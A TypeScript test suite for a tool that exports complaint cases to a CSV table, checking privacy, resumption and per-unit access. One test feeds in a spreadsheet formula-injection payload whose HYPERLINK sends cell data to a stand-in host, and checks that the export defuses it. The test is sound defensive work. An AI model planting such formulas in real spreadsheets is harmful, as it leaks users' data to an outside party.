import { existsSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { expect, onTestFinished, test } from 'vitest'
import { toRecipients } from '#src/officers/officer-list.ts'
import { DeskOffice } from '#tests/support/desk-office.ts'
import { startListedDesk } from '#tests/support/desk-server.ts'

const FORMULA = '=HYPERLINK("http://x.example/?"&A1)'

function openOffice() {
  const office = new DeskOffice()
  onTestFinished(() => office.close())
  const out = join(office.dataDir, 'table.csv')
  const exportTable = (...more: string[]) => office.run('export', 'table', '--out', out, ...more)
  const readTable = (path = out): Record<string, string>[] =>
    parse(readFileSync(path), { bom: true, columns: true })
  const countTold = async () => {
    const entries = []
    for await (const entry of (await office.store()).readRecord()) entries.push(entry)
    return entries.filter(({ kind }) => kind === 'exported').length
  }
  return { office, out, exportTable, readTable, countTold }
}

test('an officer gets a table that a spreadsheet opens as text, and the record says which cases he saved', async () => {
  const { office, out, exportTable, readTable, countTold } = openOffice()
  const first = await office.file({ answers: { narrative: FORMULA } })
  const second = await office.file({ answers: { narrative: '第一行\n“第二行”,逗号' } })
  await office.run('reply', second, '--text', '已经退费。')
  await office.run('note', second, '--text', '内部的话')
  const dry = await exportTable('--dry-run')
  expect([dry.exitCode, dry.out]).toEqual([0, expect.stringContaining('试运行')])
  expect([existsSync(out), await countTold()]).toEqual([false, 0])

  const { exitCode, out: said } = await exportTable()
  expect([exitCode, said]).toEqual([0, expect.stringContaining('明文')])
  const rows = new Map(readTable().map((row) => [row['受理编号'], row]))
  expect(rows.get(first)).toMatchObject({ 内容: `'${FORMULA}` })
  expect(rows.get(second)).toMatchObject({
    内容: '第一行\n“第二行”,逗号',
    最近一次答复: '已经退费。',
  })
  const text = readFileSync(out, 'utf8')
  expect(text.startsWith('\ufeff')).toBe(true)
  expect(text).not.toContain('内部的话')
  expect(text).not.toContain('电话')
  expect([statSync(out).mode & 0o777, existsSync(`${out}.part`)]).toEqual([0o600, false])
  expect(await countTold()).toBe(2)
  expect((await office.run('audit', 'verify')).exitCode).toBe(0)

  const again = await exportTable()
  expect([again.exitCode, again.err]).toEqual([4, expect.stringContaining(out)])
})

test('names and telephones stand in a table only where they are asked for', async () => {
  const { office, exportTable, readTable } = openOffice()
  const contact = { choice: 'contactable', name: '张三', phone: '13800000000' } as const
  await office.file({ answers: { contact } })
  await exportTable('--contact')
  expect(readTable()).toMatchObject([{ 姓名: '张三', 电话: '13800000000' }])
})

test('a table that was stopped is gone on with: no case is opened twice and a line that was cut is made anew', async () => {
  const { office, out, exportTable, readTable, countTold } = openOffice()
  const references = [await office.file(), await office.file(), await office.file()]
  const aside = join(office.dataDir, 'aside.csv')
  await office.run('export', 'table', '--out', aside)
  const whole = readTable(aside)
  const told = await countTold()
  // As the first run would leave it that is stopped in its second case.
  const { columns } = { columns: Object.keys(whole[0] ?? {}) }
  const [one] = whole
  const line = { reference: one?.['受理编号'], cells: Object.values(one ?? {}), isDamaged: false }
  const part = [{ columns, filter: {} }, line].map((each) => JSON.stringify(each)).join('\n')
  writeFileSync(`${out}.part`, `${part}\n{"reference":"7K`, { mode: 0o600 })
  const dry = await exportTable('--dry-run', '--json')
  expect(JSON.parse(dry.out)).toMatchObject({ cases: 3, done: 1 })
  const other = await exportTable('--contact')
  expect([other.exitCode, other.err]).toEqual([4, expect.stringContaining('另一次')])
  const { out: json } = await exportTable('--json')
  expect(JSON.parse(json)).toMatchObject({ written: references.length, closed: 0, damaged: [] })
  expect(readTable()).toEqual(whole)
  expect(await countTold()).toBe(told + 2)
})

test('what is damaged is named, and the rest is written all the same', async () => {
  const { office, exportTable, readTable } = openOffice()
  const sound = await office.file()
  const damaged = await office.file({ open: { sealedAnswers: new Uint8Array([1, 2, 3]) } })
  const { exitCode, out } = await exportTable()
  expect([exitCode, out]).toEqual([1, expect.stringContaining(damaged)])
  const rows = new Map(readTable().map((row) => [row['受理编号'], row['内容']]))
  expect(rows.get(damaged)).toBe('打不开')
  expect(rows.get(sound)).not.toBe('打不开')
})

test('from his own device an officer gets the cases of his unit and no others, and the host learns no word', async () => {
  const { office, list, units, startDevice } = await startListedDesk()
  const [officer] = units.health
  if (!officer) throw new Error('No officer')
  const file = (narrative: string, holder: string) =>
    office.file({
      answers: { narrative },
      open: { authority: holder, holder },
      recipients: toRecipients(list, holder),
    })
  const own = await file('退托不退费', 'health')
  await file('别的单位的事', 'city-health')
  const { run, folder } = startDevice(officer)
  const out = join(folder, 'table.csv')
  const { exitCode } = await run('export', 'table', '--out', out)
  expect(exitCode).toBe(0)
  const rows: Record<string, string>[] = parse(readFileSync(out), { bom: true, columns: true })
  expect(rows.map((row) => [row['受理编号'], row['内容']])).toEqual([[own, '退托不退费']])
})
